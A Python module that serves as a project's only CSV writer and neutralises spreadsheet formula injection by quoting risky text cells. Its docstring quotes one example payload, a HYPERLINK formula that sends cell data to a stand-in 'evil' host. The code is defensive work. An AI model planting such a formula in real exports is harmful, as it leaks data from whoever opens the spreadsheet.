"""The one CSV writer of the project: every CSV export (API renderers, emailed attachments) goes through it.

Spreadsheets run a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or a carriage return) as a
formula: `=HYPERLINK("http://evil/?"&A1,"clic")` in a product name would leak data or run code on the computer of
whoever opens the export (OWASP "CSV injection"). Every text cell that starts with one of those characters is
prefixed with a single quote, which spreadsheets show as text. A plain number (`-1.500`, `+3`) is left as it is: it
is data, not a formula, and the prefix would turn it into text. `tests/core/test_csv_exports.py` checks that no
module writes CSV with `csv.writer` directly.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def csv_cell(value: Any) -> Any:
    """The value as it may safely appear in a CSV cell: text that a spreadsheet would run as a formula is quoted."""
    if value is None:
        return ""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeCsvWriter:
    """`csv.writer` whose every cell goes through `csv_cell`. Same arguments as `csv.writer`."""

    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **kwargs) -> SafeCsvWriter:
    return SafeCsvWriter(stream, **kwargs)
